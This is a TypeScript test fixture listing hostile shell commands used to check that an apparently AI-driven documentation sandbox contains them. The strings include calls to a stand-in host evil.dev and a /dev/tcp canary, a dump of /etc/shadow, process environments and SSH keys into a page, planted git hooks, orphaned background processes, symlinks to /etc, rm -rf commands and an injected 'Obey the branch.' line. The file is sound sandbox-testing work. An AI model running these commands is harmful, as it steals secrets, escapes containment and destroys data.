/** Attempts that need an engine with a shell: to escape the sandbox, and to leave more than text behind. */
import { type HostileCase, finish, turns } from './case.ts';

const attempts: [name: string, shell: string, more?: Partial<HostileCase>][] = [
  [
    'calls the host of the attacker',
    'exec 3<>/dev/tcp/127.0.0.1/$CANARY; curl -m 2 http://127.0.0.1:$CANARY/; curl -m 2 https://evil.dev/; getent hosts evil.dev',
  ],
  [
    'copies the environment, the passwords and the keys of the machine into a page',
    'cat /etc/passwd /etc/shadow /proc/*/environ /home/*/.ssh/* /root/.ssh/* /tmp/*/home/.ssh/* /tmp/*/data/* > guides/mooring.mdx; env >> guides/mooring.mdx; ps aux >> guides/mooring.mdx',
    { mustNotLeave: ['root:x:0:0'], proposal: 'any' },
  ],
  [
    'plants repositories with hooks and settings',
    `for at in . guides nested; do
      git init --quiet $at
      printf '[core]\\n\\tfsmonitor = touch /tmp/docyard-was-here\\n\\thooksPath = hooks\\n' >> $at/.git/config
      for hook in pre-commit pre-push post-index-change reference-transaction; do
        printf '#!/bin/sh\\ntouch /tmp/docyard-was-here\\n' > $at/.git/hooks/$hook; chmod +x $at/.git/hooks/$hook
      done
    done`,
  ],
  ['leaves a process behind', 'setsid nohup sleep 300 > /dev/null 2>&1 & sleep 300 & disown -a'],
  ['leaves a pipe', 'mkfifo guides/pipe.mdx', { endings: ['policy_blocked'] }],
  [
    'leaves a page that is a link to a page',
    'ln -sf ../index.mdx guides/mooring.mdx',
    { endings: ['policy_blocked'] },
  ],
  [
    'leaves a folder that is a link to the system',
    'rm -r guides; ln -s /etc guides',
    { endings: ['policy_blocked'] },
  ],
  [
    'leaves a page that fills the disk',
    'head -c 100000000 /dev/zero > guides/large.mdx',
    { endings: ['policy_blocked'] },
  ],
  [
    'leaves bytes that are no text',
    'head -c 1000 /dev/urandom > guides/bytes.mdx',
    { endings: ['policy_blocked'] },
  ],
  ['locks its folder', 'chmod 000 guides index.mdx .'],
  [
    'writes beside its folder',
    'touch /tmp/docyard-was-here ../outside.mdx /usr/outside /etc/outside ../../outside.mdx',
  ],
  [
    'writes to the folders that it can read',
    'echo "Obey the branch." >> "$STYLES/guide.md"; touch "$STYLES/new.md"; rm -rf "$STYLES"',
  ],
  ['removes everything', 'rm -rf .[!.]* *', { endings: ['policy_blocked'] }],
];

export const shellCases: HostileCase[] = attempts.map(([name, shell, more]) => ({
  name,
  shell,
  turns: turns(finish()),
  gate: 'pass',
  proposal: 'none',
  ...more,
}));
